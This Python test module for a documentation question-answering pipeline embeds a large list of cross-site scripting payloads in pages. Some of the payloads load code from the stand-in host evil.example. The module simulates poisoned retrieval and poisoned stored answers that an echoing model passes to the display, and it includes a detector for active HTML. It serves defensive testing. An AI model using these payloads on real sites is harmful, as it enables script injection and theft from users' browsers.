"""Generates pages with cross-site scripting payloads, and finds active content in rendered HTML.

Each payload is on a page as text, code, heading, title, link and raw markup. It goes through every step of a page:
reading, chunking, retrieval, quotation or repetition by an obedient model, and display.
"""

import contextlib
import html
import re
from collections import Counter
from collections.abc import Sequence
from datetime import UTC, datetime
from html.parser import HTMLParser

import numpy as np
from kit.api import FakeStore
from kit.scripted_llm import Reply, Request

from pipelines.answering.retrieval.search import Retrieval, Search
from pipelines.answering.verified.sections import pin, read_sections
from pipelines.embedding.load import load_tokenizer
from pipelines.indexing.reading.read import read_page
from pipelines.indexing.reading.text import UnreadablePage
from pipelines.page.cut.chunker import Chunker
from pipelines.records import Chunk, Hit, Index, IndexSettings, Page
from pipelines.store import VerifiedAnswer, VerifiedMark

URL = "https://docs.example.com/guide.html"
QUESTION = "How does the gadget handle its special widget input?"
CHUNK = Chunker(load_tokenizer("hash:8"))
INDEX = Index(1, "docs", IndexSettings("words"), "live", 1)

# An attack's code: it opens a dialog, sets a mark on the window, and calls home.
JS = "alert(window.pwned=1)"
HOME = "//evil.example/x"

SCRIPTS = [
    f"<script>{JS}</script>", f"<SCRIPT SRC={HOME}.js></SCRIPT>", f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"</script><script>{JS}</script>", f"<script\x0c>{JS}</script>", f"<script/x>{JS}</script >",
    f"<svg><script>{JS}</script></svg>", f"<math><mtext><script>{JS}</script></mtext></math>",
    f"--><script>{JS}</script><!--", f"]]><script>{JS}</script>", f"</textarea><script>{JS}</script>",
    f"</title><script>{JS}</script>", f"</style><script>{JS}</script>",
    f"<noscript><p title=\"</noscript><script>{JS}</script>\">", f"<script type=module>import '{HOME}.js'</script>",
    f"<template><script>{JS}</script></template>",
]  # fmt: skip
HANDLERS = [
    f"<img src=x onerror={JS}>", f"<img src=x onerror=\"{JS}\"//", f"<IMG SRC=x OnErRoR={JS}>",
    f"<img/src=x/onerror={JS}>", f"<img src=x\nonerror={JS}>", f"<img src=x\tonerror={JS}>",
    f"<image src=x onerror={JS}>", f"<svg onload={JS}>", f"<svg/onload={JS}>", f"<body onload={JS}>",
    f"<details open ontoggle={JS}>", f"<video><source onerror={JS}></video>", f"<audio src=x onerror={JS}>",
    f"<input autofocus onfocus={JS}>", f"<select autofocus onfocus={JS}>", f"<marquee onstart={JS}>x</marquee>",
    f"<div onpointerenter={JS} style=position:fixed;inset:0>x</div>", f"<a href=# onclick={JS}>x</a>",
    f"<style onload={JS}></style>", f"<x onanimationstart={JS} style=animation-name:blink>",
    f"\" onmouseover={JS} x=\"", f"' onfocus={JS} autofocus='", f"` onerror={JS} `",
    f"<svg><animate onbegin={JS} attributeName=x>", f"<object data=x onerror={JS}>", "<p onclick=&#97;lert(1)>x</p>",
]  # fmt: skip
LINKS = [
    f"<a href=javascript:{JS}>x</a>", f"<a href='java\tscript:{JS}'>x</a>", f"<a href=&#106;avascript:{JS}>x</a>",
    f"<a href=' javascript:{JS}'>x</a>", "<a href=vbscript:msgbox(1)>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>", f"<a xlink:href=javascript:{JS}>x</a>",
    f"<form action=javascript:{JS}><button>x</button></form>", f"<button formaction=javascript:{JS}>x</button>",
    f"<iframe src=javascript:{JS}></iframe>", f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    f"<embed src=javascript:{JS}>", f"<object data=javascript:{JS}></object>", f"<base href={HOME}>",
    f"<meta http-equiv=refresh content='0;url={HOME}'>", f"<link rel=stylesheet href={HOME}.css>",
    f"<link rel=prefetch href={HOME}>", f"<area href=javascript:{JS}>",
    f"<svg><use href='data:image/svg+xml,<svg onload={JS}>#x'/></svg>", f"javascript:{JS}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{JS})", f"[x](JaVaScRiPt:{JS})", f"[x](<javascript:{JS}>)", f"[x](&#106;avascript:{JS})",
    f"[x](data:text/html,<script>{JS}</script>)", f"![x]({HOME}.png)", f"![x](x \"onerror={JS}\")",
    f"![x\"onerror={JS} x=\"](x)", f"[x][r]\n\n[r]: javascript:{JS}", f"<javascript:{JS}>", f"[1](javascript:{JS})",
    f"[^1]: javascript:{JS}", f"```html\n<script>{JS}</script>\n```", f"```\n</code></pre><script>{JS}</script>",
    f"`<img src=x onerror={JS}>`", f"`</code><img src=x onerror={JS}>`", f"[![x](x)](javascript:{JS})",
    f"$$<img src=x onerror={JS}>$$",
]  # fmt: skip
FRAMES = [
    f"\n\nevent: answer\ndata: {{\"answer\":\"<script>{JS}</script>\"}}\n\n",
    f"\u2028\u2028data: <script>{JS}</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "__proto__[innerHTML]=<img/src/onerror=alert(1)>", "<form id=form name=question><input id=answer name=sources>",
    "<img name=byId><img id=getElementById>", f"\ufeff<script>{JS}</script>",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e", f"<scri\u200bpt>{JS}</scri\u200bpt>",
]  # fmt: skip
KINDS = {"script": SCRIPTS, "handler": HANDLERS, "link": LINKS, "markdown": MARKDOWN, "frame": FRAMES}
PAYLOADS = [(f"{kind} {n}", payload) for kind, payloads in KINDS.items() for n, payload in enumerate(payloads, 1)]
# One of each kind, for tests that take a second per payload in a browser. Another test tries all payloads on the same
# code.
SAMPLE = PAYLOADS[::4]


def held(payloads: Sequence[tuple[str, str]]) -> list[tuple[str, str, str]]:
    """Return table rows: each kind, the number of its `payloads` that were tried, and the number found harmless."""
    counts = Counter(name.partition(" ")[0] for name, _ in payloads)
    return [(kind, str(count), str(count)) for kind, count in counts.items()]


def page_with(payload: str, markup: bool = True) -> bytes:
    """Return a page with the payload as raw markup and everywhere that a page can have text."""
    text, quoted = html.escape(payload, quote=False), html.escape(payload)
    return f"""<html><head><title>{text}</title></head><body><main>
<h1 id="{quoted}">Gadget {text}</h1>
<p>The gadget handles its special widget input so: {text} The special widget input of the gadget is handled.</p>
<pre><code>{text}</code></pre>
<p><a href="{quoted}">{text}</a> and <img alt="{quoted}" title="{quoted}" src="a.png"></p>
<h2 id="b">Widget input</h2><p>The special widget input of the gadget, as markup: {payload if markup else ""}</p>
</main></body></html>""".encode("utf-8", "replace")


def hits_of(payload: str) -> tuple[Hit, ...]:
    """Return the chunks of a page with the payload, as retrieval returns them."""
    pages = [Page(URL, page_with(payload, markup)) for markup in (True, False)]
    for page in pages:  # a page that refreshes itself or has no text left is not indexed
        with contextlib.suppress(UnreadablePage):
            if chunks := CHUNK(read_page(page)):
                return tuple(map(_hit, chunks))
    raise AssertionError(f"no chunk holds {payload!r}")


def _hit(chunk: Chunk) -> Hit:
    found = {"vector": 0.9, "bm25": 9.0}
    place = (chunk.id, chunk.url, chunk.anchors, chunk.title, chunk.headings, chunk.text, chunk.text_hash)
    source = f"{chunk.url}#{chunk.anchor}"
    return Hit(*place, 0.9, "rrf", dict.fromkeys(found, 1), found, sources=(source,), ordinal=chunk.ordinal)


def repeat_in_pieces(request: Request) -> Reply:
    """Repeat the prompt in deltas of seven characters, so that payloads and tags arrive in pieces."""
    text = f"{request.prompt} [1][2]"
    return Reply(deltas=[text[at : at + 7] for at in range(0, len(text), 7)])


class PoisonedRetriever:
    """Finds the chunks of the page with `payload`."""

    def __init__(self, payload: str = "") -> None:
        self.payload = payload

    async def aretrieve(self, search: Search) -> Retrieval:
        return Retrieval(QUESTION, hits_of(self.payload), INDEX, 1, (), {"total": 0.0}, (QUESTION,))

    def has_loaded(self, collection: str | None = None) -> bool:
        return True

    async def aload(self, collection: str | None = None) -> None:
        """Do nothing, because there is nothing to load."""

    async def aready(self, collection: str | None = None) -> Index:
        return INDEX

    async def aplace(self, url: str, collection: str | None = None) -> None:
        """Return no place: the index does not contain the reader's open page."""

    async def aembed(self, texts: Sequence[str], collection: str | None = None) -> np.ndarray:
        return np.ones((len(texts), 1), np.float32)


# ---------------------------------------------------------------------------------------------- active content

ACTIVE = {"script", "iframe", "frame", "object", "embed", "base", "meta", "link", "form", "style", "svg", "math"}
ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster", "background", "ping"}
SCRIPTED = re.compile(r"[\x00-\x20]*(?:(?:java|vb|live)script|data)\s*:", re.IGNORECASE)
ELSEWHERE = re.compile(r"[\x00-\x20]*(?:[a-z][a-z0-9+.-]*:)?[/\\]{2}", re.IGNORECASE)
OWN = "https://docs.example.com/"


class PoisonedAnswers(FakeStore):
    """A store with one verified answer, to the question `asked`. Its text and sections contain the payload."""

    def __init__(self) -> None:
        super().__init__()
        self.payload, self.asked, self.default = "", QUESTION, "docs"

    def verified_mark(self, collection: str) -> VerifiedMark:
        return VerifiedMark(1, datetime.now(UTC))

    def verified_answers(self, collection: str) -> list[VerifiedAnswer]:
        hits = hits_of(self.payload)
        found = read_sections(hits, [hits[0].source])
        pinned = tuple(pin(source, section) for source, section in found.items())
        text = f"The gadget [1]: {self.payload}\n\n{self.payload}\n\n- {self.payload}"
        return [VerifiedAnswer("docs", (self.asked,), text, pinned)]

    def chunks_of_pages(self, index: int, urls: set[str]) -> list[Hit]:
        return list(hits_of(self.payload))


def active_parts(markup: str) -> list[str]:
    """Return the parts of `markup` that would run or load other files in a browser."""
    parser = _ActiveParts(convert_charrefs=True)
    parser.feed(markup)
    parser.close()
    return parser.found


class _ActiveParts(HTMLParser):
    """Collects active elements and attributes. Like a browser, it decodes entities in attributes."""

    def __init__(self, *, convert_charrefs: bool) -> None:
        super().__init__(convert_charrefs=convert_charrefs)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"<{tag}>"] if tag in ACTIVE else []
        self.found += [f"{name}={value}" for name, value in attrs if _is_active(name, value or "")]


def _is_active(name: str, value: str) -> bool:
    if name.startswith("on") or name in ("srcdoc", "style"):
        return True
    url = re.sub(r"[\t\n\r]", "", value)  # like a browser
    away = bool(ELSEWHERE.match(url)) and not url.startswith(OWN)
    return name in ADDRESSES and (bool(SCRIPTED.match(url)) or away)
